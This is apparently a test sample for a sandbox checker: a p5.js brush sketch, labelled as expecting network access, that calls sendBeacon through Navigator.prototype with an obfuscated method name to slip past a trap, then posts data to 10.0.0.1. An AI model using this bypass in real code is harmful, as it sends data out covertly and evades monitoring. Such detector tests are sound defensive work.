// expect: network_access
// Takes sendBeacon from Navigator.prototype, past a trap on the navigator
// object itself.
function setup() {
  createCanvas(160, 160, WEBGL);
  brush.set("HB", "#222", 1);
  brush.line(-60, -60, 60, 60);
  try {
    Navigator.prototype["send" + "Beacon"].call(navigator, "http://10.0.0.1/b", "painted");
  } catch (e) { /* carry on */ }
}
